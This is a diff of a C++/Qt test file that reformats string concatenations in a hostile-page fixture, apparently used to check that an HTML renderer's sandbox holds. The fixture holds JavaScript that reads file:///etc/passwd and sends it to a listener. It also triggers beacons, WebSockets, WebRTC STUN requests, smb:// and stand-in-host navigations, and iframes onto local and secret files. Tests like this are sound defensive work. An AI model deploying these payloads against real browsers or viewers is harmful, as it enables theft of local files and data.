@@ -107,25 +107,37 @@ std::string HostileParts(const LoopbackListener& listener, const std::string& ou
   std::string stun = "stun:127.0.0.1:" + std::to_string(listener.udp.localPort());
   return "<script>"
          "fetch('file:///etc/passwd').then(r => r.text())"
-         "  .then(t => { location.href = '" + http + "/?d=' + encodeURIComponent(t); });"
+         "  .then(t => { location.href = '" +
+         http +
+         "/?d=' + encodeURIComponent(t); });"
          "const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd'); x.send();"
          "setInterval(() => { const a = document.createElement('a');"
          "  a.href = 'https://trubkom.example/?d=script'; document.body.appendChild(a);"
          "  a.click(); location.assign('smb://server/share'); }, 250);"
-         "const pc = new RTCPeerConnection({iceServers: [{urls: '" + stun + "'}]});"
+         "const pc = new RTCPeerConnection({iceServers: [{urls: '" +
+         stun +
+         "'}]});"
          "pc.createDataChannel('d'); pc.createOffer().then(o => pc.setLocalDescription(o));"
-         "navigator.sendBeacon('" + http + "/beacon', 'x'); new WebSocket('ws://127.0.0.1:" +
-         std::to_string(listener.tcp.serverPort()) + "/');"
+         "navigator.sendBeacon('" +
+         http + "/beacon', 'x'); new WebSocket('ws://127.0.0.1:" +
+         std::to_string(listener.tcp.serverPort()) +
+         "/');"
          "window.open('https://trubkom.example/?d=open'); alert('a'); print();"
          "</script>"
          "<iframe srcdoc=\"<script>top.location = 'https://trubkom.example/?d=top'</script>\">"
          "</iframe>"
-         "<img src=\"" + http + "/picture.png\">"
-         "<iframe src=\"" + http + "/frame.html\"></iframe>"
+         "<img src=\"" +
+         http +
+         "/picture.png\">"
+         "<iframe src=\"" +
+         http +
+         "/frame.html\"></iframe>"
          "<iframe src=\"file:///etc/passwd\"></iframe>"
          "<iframe src=\"file://localhost/etc/\"></iframe>"
          "<iframe src=\"file://127.0.0.1/etc/\"></iframe>"
-         "<iframe src=\"file://" + outside_file + "\"></iframe>"
+         "<iframe src=\"file://" +
+         outside_file +
+         "\"></iframe>"
          "<iframe src=\"out/secret.html\"></iframe>"
          "<iframe src=\"inside.html\"></iframe>";
 }
@@ -145,7 +157,8 @@ class HostilePageTest : public QObject {
     cat_.WriteBytes(
         "Templates/index.html",
         "<html><head><meta http-equiv=\"refresh\" content=\"0; url=http://127.0.0.1:" +
-            std::to_string(listener_.tcp.serverPort()) + "/refresh\"></head><body>"
+            std::to_string(listener_.tcp.serverPort()) +
+            "/refresh\"></head><body>"
             "<p><a id=\"passwd\" href=\"file:///etc/passwd\">passwd</a>"
             " <a id=\"smb\" href=\"smb://server/share\">smb</a>"
             " <a id=\"settings\" href=\"ms-settings:\">settings</a>"
